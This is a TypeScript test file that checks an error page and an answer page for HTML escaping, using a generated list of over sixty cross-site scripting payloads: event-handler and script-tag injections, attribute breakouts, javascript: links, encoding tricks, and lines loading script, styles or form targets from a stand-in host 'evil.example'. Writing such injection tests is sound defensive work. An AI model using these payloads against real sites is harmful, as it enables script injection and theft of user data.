import { describe, expect, it } from 'vitest'
import { answerPage, faultPage } from './pages.ts'

// What people type is shown again, and the name of a class is the site's: neither becomes a part of the page.

const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle open',
  'onpointerenter',
]
const tags = ['img src=x', 'svg', 'input', 'details', 'body', 'video src=x', 'iframe', 'marquee', 'math']
const wrappings = [(text: string) => text, (text: string) => `">${text}`, (text: string) => `'>${text}`]
const payloads = [
  ...tags.flatMap((tag, i) => wrappings.map(wrap => wrap(`<${tag} ${handlers[i % handlers.length]}=alert(1)>`))),
  ...handlers.flatMap(handler => [`" ${handler}=alert(1) x="`, `' ${handler}=alert(1) x='`, `x ${handler}=alert(1)`]),
  ...['<script>alert(1)</script>', '<SCRIPT/SRC=//evil.example>', '</title><script>alert(1)</script>'],
  ...[
    '</style><script>alert(1)</script>',
    '</textarea><img src=x onerror=alert(1)>',
    '<!--><script>alert(1)</script>-->',
  ],
  ...['<a href="javascript:alert(1)">x</a>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0>'],
  ...[
    '<link rel=stylesheet href=//evil.example>',
    '<form action=//evil.example>',
    '<style>@import"//evil.example"</style>',
  ],
  ...[
    '&lt;script&gt;',
    '&#60;script&#62;',
    '\u2028<script>',
    '\0<script>',
    '+ADw-script+AD4-',
    '\u202e<svg/onload=alert(1)>',
  ],
]

/** Every tag, without what is written into the fields and headings. */
const tagsOf = (body: string): string[] =>
  (body.match(/<[^>]*>/g) ?? []).map(tag => tag.replace(/ value="[^"<>]*"/, ''))

describe('what others wrote', () => {
  it('is sixty payloads and more', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(60)
  })

  it.each(payloads)('%j adds no tag and no attribute to a form', payload => {
    const faults = ['codeMalformed', 'addressMalformed'] as const
    const page = (text: string) => faultPage(422, 'en', faults, { code: text, recipient: text }).body
    expect(tagsOf(page(payload))).toEqual(tagsOf(page('harmless')))
    expect(page(payload)).not.toMatch(/[\0\u202a-\u202e\u2066-\u2069]/)
  })

  it.each(payloads)('%j as the name of a class adds none to an answer', payload => {
    const page = (name: string) =>
      answerPage('en', { verdict: 'unconfirmed', class: name, sentAt: 0, origin: 'request' }).body
    expect(tagsOf(page(payload))).toEqual(tagsOf(page('harmless')))
  })
})
